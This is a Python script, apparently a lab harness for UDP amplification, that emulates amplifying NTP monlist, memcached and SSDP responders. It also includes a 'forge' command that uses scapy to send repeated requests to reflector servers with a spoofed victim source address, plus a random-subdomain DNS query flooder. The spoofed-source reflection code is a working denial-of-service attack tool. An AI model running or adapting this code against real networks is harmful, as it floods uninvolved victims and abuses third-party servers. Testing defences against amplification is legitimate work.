#!/usr/bin/python3
"""UDP servers that amplify, and clients that ask in the name of another or for many names.

    datagrams.py serve monlist|memcached PORT ADDRESS...    answers a small request with several large packets
    datagrams.py serve time PORT ADDRESS...                 an NTP server (mode 4)
    datagrams.py serve device GROUP PORT ADDRESS...         answers a search to the multicast group from each address
    datagrams.py forge VICTIM PORT monlist|memcached|dns:NAME:TYPE PORT COUNT PAUSE SERVER...
                                                            COUNT requests to each server with the victim's source
    datagrams.py search GROUP PORT SECONDS                  an SSDP search
    datagrams.py ask|iterate RESOLVER TYPE COUNT PAUSE NAME SOURCE...
                                                            {} in NAME becomes the number, {random} something new;
                                                            "iterate" does not desire recursion, as resolvers do
"""
import random
import select
import socket
import sys
import time

from scapy.all import DNS, DNSQR, DNSRROPT, IP, UDP, IPv6, Raw, conf, send

# Mode 7 (private), implementation XNTPD, request code 42: MON_GETLIST_1. No server at hand knows it any more.
MONLIST = bytes.fromhex("1700032a") + bytes(4)
MEMCACHED = bytes.fromhex("0001000000010000") + b"get page\r\n"


def udp_socket(address, port=0):
    sock = socket.socket(socket.AF_INET6 if ":" in address else socket.AF_INET, socket.SOCK_DGRAM)
    sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    sock.bind((address, port))
    return sock


def answers(kind, request):
    if kind == "monlist" and request[:4] == MONLIST[:4]:
        # Six entries of 72 bytes in a packet; the second byte numbers the packets.
        return [bytes([0xd7 if i < 5 else 0x97, i, 3, 42, 0, 6, 0, 72]) + random.randbytes(432) for i in range(6)]
    if kind == "memcached" and b"get " in request:
        return [request[:2] + bytes([0, i, 0, 8, 0, 0]) + b"VALUE page 0 9000\r\n" + b"p" * 1375 for i in range(8)]
    if kind == "time" and len(request) >= 48:
        now = time.time() + 2208988800
        stamp = int(now).to_bytes(4, "big") + int(now % 1 * 2**32).to_bytes(4, "big")
        return [bytes([0x24, 2, request[2], 0xec]) + bytes(8) + b"\x0a\0\0\1" + stamp + request[40:48] + stamp + stamp]
    return []


def serve(kind, port, *addresses):
    sockets = [udp_socket(address, int(port)) for address in addresses]
    while True:
        for sock in select.select(sockets, [], [])[0]:
            request, client = sock.recvfrom(2048)
            for answer in answers(kind, request):
                sock.sendto(answer, client)


def serve_device(group, port, *addresses):
    listener = udp_socket("0.0.0.0", int(port))
    listener.setsockopt(socket.IPPROTO_IP, socket.IP_ADD_MEMBERSHIP, socket.inet_aton(group) + socket.inet_aton(addresses[0]))
    devices = [udp_socket(address, int(port)) for address in addresses]
    while True:
        _, client = listener.recvfrom(2048)
        for target in ("upnp:rootdevice", "urn:schemas-upnp-org:service:ContentDirectory:1"):
            for number, device in enumerate(devices):
                device.sendto((f"HTTP/1.1 200 OK\r\nCACHE-CONTROL: max-age=1800\r\nEXT:\r\n"
                               f"LOCATION: http://{addresses[number]}:49152/description.xml\r\n"
                               f"SERVER: Linux/5.10 UPnP/1.0 Portable SDK/1.14\r\nST: {target}\r\n"
                               f"USN: uuid:4d696e69-444c-164e-9d41-{number:012x}::{target}\r\n\r\n").encode(), client)
                time.sleep(0.01)


def forge(victim, port, what, service, count, pause, *servers):
    conf.verb = 0
    for _ in range(int(count)):
        for server in servers:
            if what.startswith("dns:"):
                _, name, qtype = what.split(":")
                request = DNS(id=random.randrange(65536), rd=1, qd=DNSQR(qname=name, qtype=qtype), ar=DNSRROPT(rclass=4096))
            else:
                request = Raw(MONLIST if what == "monlist" else MEMCACHED)
            ip = IPv6(src=victim, dst=server) if ":" in victim else IP(src=victim, dst=server, id=random.randrange(1, 65536))
            send(ip / UDP(sport=int(port), dport=int(service)) / request)
            time.sleep(float(pause))


def search(group, port, seconds):
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sock.sendto(f"M-SEARCH * HTTP/1.1\r\nHOST: {group}:{port}\r\nMAN: \"ssdp:discover\"\r\nMX: 2\r\nST: ssdp:all\r\n\r\n".encode(),
                (group, int(port)))
    end = time.time() + float(seconds)
    while time.time() < end:
        if select.select([sock], [], [], 0.2)[0]:
            sock.recvfrom(2048)


def ask(recursion, resolver, qtype, count, pause, name, *sources):
    sockets = []
    for number in range(int(count)):
        sock = udp_socket(sources[number % len(sources)])
        # Open to the end, so that answers are not rejected.
        sockets.append(sock)
        wanted = name.replace("{random}", f"{random.randrange(36**6):x}").replace("{}", str(number))
        query = DNS(id=random.randrange(65536), rd=recursion, qd=DNSQR(qname=wanted, qtype=255 if qtype == "ANY" else qtype))
        if qtype in ("TXT", "ANY"):
            query.ar = DNSRROPT(rclass=4096)
        sock.sendto(bytes(query), (resolver, 53))
        time.sleep(float(pause))
    time.sleep(1)


def main():
    command, *arguments = sys.argv[1:]
    if command == "serve" and arguments[0] == "device":
        serve_device(*arguments[1:])
    elif command in ("ask", "iterate"):
        ask(int(command == "ask"), *arguments)
    else:
        {"serve": serve, "forge": forge, "search": search}[command](*arguments)


main()
